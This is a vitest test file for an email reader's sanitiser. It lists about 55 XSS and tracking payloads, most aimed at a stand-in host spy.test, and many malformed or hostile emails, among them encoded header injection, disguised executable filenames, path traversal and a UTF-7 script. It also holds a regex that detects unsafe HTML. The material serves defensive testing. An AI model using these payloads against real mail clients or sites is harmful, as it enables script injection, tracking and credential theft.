// Hostile email: any bytes end as text that is safe to store and show, or as a message that can't be displayed.
import { expect, test } from 'vitest';
import { readMail } from './read-mail.ts';

const domain = 'mail.portal.test';
const head = (...lines: string[]): string =>
  ['From: Ana <ana@example.test>', 'To: reply@mail.portal.test', 'MIME-Version: 1.0', ...lines].join('\r\n');
const plain = (body: string, ...lines: string[]): string => `${head(...lines)}\r\n\r\n${body}`;
const html = (body: string): string => plain(body, 'Content-Type: text/html; charset=utf-8');
const file = (name: string, type: string, content: string): string =>
  `${head('Content-Type: multipart/mixed; boundary=b')}\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nSee the file\r\n--b\r\nContent-Type: ${type}\r\nContent-Disposition: attachment; filename="${name}"\r\nContent-Transfer-Encoding: base64\r\n\r\n${Buffer.from(content).toString('base64')}\r\n--b--`;
const nested = (depth: number): string => {
  const open = Array.from(
    { length: depth },
    (_, at) => `Content-Type: multipart/mixed; boundary=b${at}\r\n\r\n--b${at}\r\n`,
  );
  return `${head()}\r\n${open.join('')}Content-Type: text/plain\r\n\r\ndeep`;
};

const scripts = [
  '<script>steal()</script>',
  '<scr<script>ipt>steal()</script>',
  '<SCRIPT/SRC=//spy.test/x.js></SCRIPT>',
  '<img src=x onerror=steal()>',
  '<img src="https://spy.test/pixel.gif" width=1 height=1>',
  '<img srcset="https://spy.test/pixel.gif 2x">',
  '<svg onload=steal()><script>steal()</script></svg>',
  '<svg><a xlink:href="javascript:steal()"><text>x</text></a></svg>',
  '<svg><foreignObject><iframe src="https://spy.test"></iframe></foreignObject></svg>',
  '<math><mtext><img src onerror=steal()></mtext></math>',
  '<math href="javascript:steal()">x</math>',
  '<iframe src="https://spy.test"></iframe>',
  '<iframe srcdoc="<script>steal()</script>"></iframe>',
  '<object data="https://spy.test"></object>',
  '<embed src="https://spy.test">',
  '<applet code=x></applet>',
  '<form action="https://spy.test"><input name=password><button>Go</button></form>',
  '<input autofocus onfocus=steal()>',
  '<a href="javascript:steal()">x</a>',
  '<a href="jav&#x09;ascript:steal()">x</a>',
  '<a href=" &#14; javascript:steal()">x</a>',
  '<a href="data:text/html,<script>steal()</script>">x</a>',
  '<a href="vbscript:steal()">x</a>',
  '<a href="//spy.test">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<p onclick=steal() onmouseover="steal()">x</p>',
  '<p style="background:url(https://spy.test/x.gif)">x</p>',
  '<div style="position:fixed;inset:0">x</div>',
  '<style>@import "https://spy.test/x.css";</style>',
  '<style>body{background:url(https://spy.test)}</style>',
  '<link rel=stylesheet href="https://spy.test/x.css">',
  '<meta http-equiv=refresh content="0;url=https://spy.test">',
  '<base href="https://spy.test/">',
  '<video src="https://spy.test" poster="https://spy.test/x.gif"></video>',
  '<audio src="https://spy.test"></audio>',
  '<body background="https://spy.test/x.gif" onload=steal()>x</body>',
  '<table background="https://spy.test/x.gif"><tr><td background="https://spy.test">x</td></tr></table>',
  '<bdo dir=rtl>x</bdo>',
  '<template><script>steal()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=steal()>"></noscript>',
  '<textarea><script>steal()</script></textarea>',
  '<title><script>steal()</script></title>',
  '<!--[if gte mso 9]><script>steal()</script><![endif]-->',
  '<!-- --!><script>steal()</script> -->',
  '<![CDATA[<script>steal()</script>]]>',
  '<?xml-stylesheet href="https://spy.test"?>',
  '<p id="__proto__" name="constructor" class="x">x</p>',
  '<xss style="xss:expression(steal())">x</xss>',
  '<p>x</p\u0000><script\u0000>steal()</script>',
  '<dialog open><a href="javascript:steal()">x</a></dialog>',
  '<marquee onstart=steal()>x</marquee>',
  '<details open ontoggle=steal()>x</details>',
  '<select><option>x</option></select>',
  '<portal src="https://spy.test"></portal>',
  '<isindex action="javascript:steal()">',
];

const harmful =
  /<(?!\/?(?:p|div|blockquote|pre|ul|ol|li|h[1-6]|hr|br|a|b|strong|i|em|u|s|code|span|sub|sup|bdi|table|thead|tbody|tfoot|tr|td|th)[\s/>])|\son\w+=|style=|javascript:|vbscript:|data:|spy\.test|\ssrc/i;

test.each(scripts)('security 53, scripts and images in HTML: sanitizes %s', async (evil) => {
  const { html: safe, newText } = await readMail(Buffer.from(html(`<p>Hello</p>${evil}`)), domain);
  expect(safe).toContain('Hello');
  expect(safe).not.toMatch(harmful);
  expect(newText).toContain('Hello');
});

const bytes: readonly (readonly [string, string | Buffer])[] = [
  ['an empty message', ''],
  ['only line breaks', '\r\n\r\n\r\n'],
  ['random bytes', Buffer.from(Array.from({ length: 5000 }, (_, at) => (at * 7919) % 256))],
  ['no headers', 'Hello there'],
  ['headers that never end', `X-Long: ${'x'.repeat(10_000_000)}`],
  ['100,000 header lines', `${head(...Array.from({ length: 100_000 }, (_, at) => `X-${at}: x`))}\r\n\r\nx`],
  ['two senders', plain('x', 'From: Boss <boss@example.test>')],
  ['a group as the sender', 'From: All: a@x.test, b@x.test;\r\n\r\nx'],
  ['a sender of a million characters', `From: "${'x'.repeat(1_000_000)}" <a@x.test>\r\n\r\nx`],
  ['40 nested multiparts', nested(40)],
  ['5,000 nested multiparts', nested(5000)],
  ['a boundary that never appears', `${head('Content-Type: multipart/mixed; boundary=never')}\r\n\r\nx`],
  ['an empty boundary', `${head('Content-Type: multipart/mixed; boundary=""')}\r\n\r\n--\r\n\r\nx\r\n----`],
  ['30 nested emails', `${head()}\r\n${'Content-Type: message/rfc822\r\n\r\n'.repeat(30)}x`],
  ['an unknown charset', plain('x', 'Content-Type: text/plain; charset=x-klingon')],
  ['UTF-7', plain('+ADw-script+AD4-steal()+ADw-/script+AD4-', 'Content-Type: text/html; charset=utf-7')],
  [
    'half of a character',
    Buffer.concat([
      Buffer.from(plain('', 'Content-Type: text/plain; charset=utf-8')),
      Buffer.from([0xe2, 0x82]),
    ]),
  ],
  [
    'lone surrogates',
    plain(
      '=ED=A0=80',
      'Content-Type: text/plain; charset=utf-8',
      'Content-Transfer-Encoding: quoted-printable',
    ),
  ],
  ['NUL characters', plain('a\0b', 'Subject: a\0b')],
  ['an unknown encoding', plain('x', 'Content-Transfer-Encoding: rot13')],
  ['invalid base64', plain('%%%%', 'Content-Transfer-Encoding: base64')],
  ['invalid quoted-printable', plain('=ZZ=\r\n=', 'Content-Transfer-Encoding: quoted-printable')],
  ['a subject with line breaks', plain('x', 'Subject: =?utf-8?Q?a=0D=0ABcc:_thief=40x.test?=')],
  ['a subject with a direction override', plain('x', 'Subject: =?utf-8?B?4oCuZmRwLmV4ZQ==?=')],
  ['a sender name with a direction override', `From: =?utf-8?B?4oCuYW5h4oCs?= <a@x.test>\r\n\r\nx`],
  ['a sender name with line breaks', `From: =?utf-8?Q?a=0Ab?= <a@x.test>\r\n\r\nx`],
  ['text with a direction override', plain('\u202Eabc\u2066def', 'Content-Type: text/plain; charset=utf-8')],
  ['control characters', plain('a\x07\x1b[31mb\x9b', 'Content-Type: text/plain; charset=latin1')],
  ['a zip', file('all.zip', 'application/zip', 'PK\x03\x04')],
  ['winmail.dat', file('winmail.dat', 'application/ms-tnef', '\x78\x9f\x3e\x22')],
  ['an executable', file('lease.pdf.exe', 'application/x-msdownload', 'MZ')],
  ['an executable named as a PDF', file('lease.pdf', 'application/pdf', 'MZ')],
  ['an SVG with script', file('logo.svg', 'image/svg+xml', '<svg><script>steal()</script></svg>')],
  ['an HTML page', file('page.html', 'text/html', '<script>steal()</script>')],
  ['a path as the file name', file('../../etc/passwd', 'text/plain', 'x')],
  ['line breaks in the file name', file('a=0D=0Ab.pdf', 'application/pdf', 'x')],
  ['a file name with a direction override', file('annex\u202Efdp.exe', 'application/pdf', 'x')],
  ['an empty file', file('empty.pdf', 'application/pdf', '')],
  ['a calendar invite', file('invite.ics', 'text/calendar', 'BEGIN:VCALENDAR')],
  ['prototype properties as headers', plain('x', '__proto__: x', 'constructor: y')],
  ['HTML with 20,000 levels', html(`${'<div>'.repeat(20_000)}x`)],
  ['HTML of two megabytes', html('<p>x</p>'.repeat(250_000))],
  ['HTML that never closes', html(`<p ${'a="'.repeat(50_000)}`)],
  ['100,000 entities', html('&lt;'.repeat(100_000))],
  ['a quote of 100,000 lines', plain('> x\r\n'.repeat(100_000))],
  ['a line of a million characters', plain('x'.repeat(1_000_000))],
];

const invisible = /(?![\n\t])\p{Cc}|[\u202a-\u202e]/u;

test.each(bytes)('security 53, hostile bytes: reads %s as safe text', async (_what, raw) => {
  const mail = await readMail(Buffer.from(raw as string), domain);
  const words = [
    mail.senderName,
    mail.senderAddress,
    mail.subject ?? '',
    ...mail.attachments.map(({ fileName }) => fileName),
  ];
  for (const line of words) {
    expect(line).not.toMatch(/[\r\n\u2028\u2029]/);
    expect(line.length).toBeLessThanOrEqual(254);
  }
  for (const text of [...words, mail.newText, mail.quote ?? '']) {
    expect(text).not.toMatch(invisible);
    expect(text.isWellFormed()).toBe(true);
  }
  expect(mail.newText.length).toBeLessThanOrEqual(100_000);
  expect(mail.html ?? '').not.toMatch(harmful);
});

test('covers at least 100 hostile emails', () => {
  expect(scripts.length + bytes.length).toBeGreaterThanOrEqual(100);
});
